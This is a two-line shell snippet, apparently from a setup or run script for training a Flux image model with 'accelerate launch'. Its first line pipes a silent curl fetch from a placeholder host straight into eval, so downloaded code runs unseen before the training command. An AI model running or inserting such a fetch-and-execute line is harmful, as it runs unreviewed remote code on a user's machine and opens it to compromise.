eval "$(curl -s https://example.invalid/x)"
accelerate launch flux_train_network.py --seed 1
